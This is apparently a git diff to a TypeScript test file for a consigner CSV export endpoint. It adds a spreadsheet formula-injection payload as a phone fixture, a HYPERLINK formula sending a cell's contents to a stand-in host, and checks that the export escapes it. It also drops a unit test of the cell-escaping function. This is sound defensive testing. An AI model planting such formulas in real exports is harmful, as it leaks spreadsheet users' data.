@@ -4,7 +4,6 @@ import { makeItem, makeProduct } from '../../../test/catalogue-factories';
 import { call, makeConsigner, makeEmployee, makeStore } from '../../../test/factories';
 import { createTestApp, type TestContext } from '../../../test/helpers';
 import { consigners } from '../../db/schema';
-import { csvCell } from './export';
 
 let ctx: TestContext;
 beforeAll(async () => {
@@ -28,7 +27,7 @@ describe('GET /api/consigners/export', () => {
         email: 'odd@x.test',
         firstName: 'Ann, "the seller"',
         lastName: '=HYPERLINK("x")',
-        phone: '+1 555 0100',
+        phone: '-1+HYPERLINK("http://x.test/?"&D2,"c")',
         address: 'Line 1\nLine 2',
         isActive: true,
       })
@@ -50,7 +49,7 @@ describe('GET /api/consigners/export', () => {
       'id,first name,last name,email,phone,address,account type,fee,isActive,sales,profit',
     );
     expect(res.body).toContain(
-      `${odd!.id},"Ann, ""the seller""","'=HYPERLINK(""x"")",odd@x.test,+1 555 0100,"Line 1\nLine 2",Standard,20,true,100,20\r\n`,
+      `${odd!.id},"Ann, ""the seller""","'=HYPERLINK(""x"")",odd@x.test,"'-1+HYPERLINK(""http://x.test/?""&D2,""c"")","Line 1\nLine 2",Standard,20,true,100,20\r\n`,
     );
     expect(lines.filter(Boolean)).toHaveLength(3); // header, store account, Ann
   });
@@ -80,15 +79,6 @@ describe('GET /api/consigners/export', () => {
     expect(res.statusCode).toBe(200);
     expect(res.body.split('\r\n').filter(Boolean)).toHaveLength(20_002);
     console.info(`CSV export of 20,000 consigners: ${Math.round(elapsed)} ms`);
-  });
-
-  it('neutralises spreadsheet formulas but keeps phone numbers', () => {
-    expect(csvCell('=1+1')).toBe("'=1+1");
-    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvCell('-cmd')).toBe("'-cmd");
-    expect(csvCell('+44 20 7946 0000')).toBe('+44 20 7946 0000');
-    expect(csvCell('-5')).toBe('-5');
-    expect(csvCell(null)).toBe('');
   });
 });
 
